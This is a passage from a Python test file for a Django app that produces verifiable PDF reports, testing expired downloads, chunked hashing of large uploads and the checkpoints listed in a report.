    response = client_as(arjen).get(reverse("guidelines:report_download", args=[report.verification_code]))

    assert response.status_code == 404 and "no longer available" in response.content.decode()
    assert AuditEvent.objects.filter(action=AuditEvent.Action.REPORT_DOWNLOADED).count() == downloads


# Verification of large uploads ----------------------------------------------------------------------------


def test_verification_hashes_a_large_upload_in_chunks_and_reads_its_code_from_the_file(
        client_as, scene, arjen, monkeypatch):
    from django.core.files.uploadedfile import TemporaryUploadedFile

    report = generate(arjen)
    # Over FILE_UPLOAD_MAX_MEMORY_SIZE (2.5 MB), so Django keeps it in a temporary file.
    content = pdf_path(report).read_bytes() + b"%" + b"x" * (3 * 1024 * 1024) + b"\n"
    reads = []

    def spying_read(self):
        def read(*size):
            reads.append(size)
            return self.file.read(*size)
        return read

    monkeypatch.setattr(TemporaryUploadedFile, "read", property(spying_read))
    page = upload(client_as(arjen), content).content.decode()
    assert "Altered" in page and report.verification_code in page  # pikepdf read the claim from the file
    assert hashlib.sha256(content).hexdigest() in page
    assert reads and all(len(size) == 1 and 0 < size[0] <= 64 * 1024 for size in reads)  # never all at once


def test_the_pack_lists_the_checkpoints_up_to_its_day(scene, arjen):
    from guidelines import checkpoints

    with time_machine.travel(at(date(2027, 3, 5), 3), tick=False):
        early = checkpoints.make()
    with time_machine.travel(at(date(2027, 3, 20), 3), tick=False):
        checkpoints.make()  # after the pack's day: not in it
    report = generate(arjen)  # as of 10 March
    words = words_of(pdf_path(report))
    section = words.split("Checkpoints", 1)[1]
    assert "1 checkpoint was made by the end of this report's day" in section
    assert "2 checkpoints were checked against the chain" in section
    assert f"5 Mar 2027, 03:00 {early.head_sequence}" in section
    assert early.head_seal in section.replace(" ", "")  # the seal wraps inside its cell
    manifest = json.loads(PdfReader(pdf_path(report)).attachments["manifest.json"][0])
    assert [row["digest"] for row in manifest["checkpoints"]] == [early.digest]
    assert manifest["chain"]["checkpoints_checked"] == 2
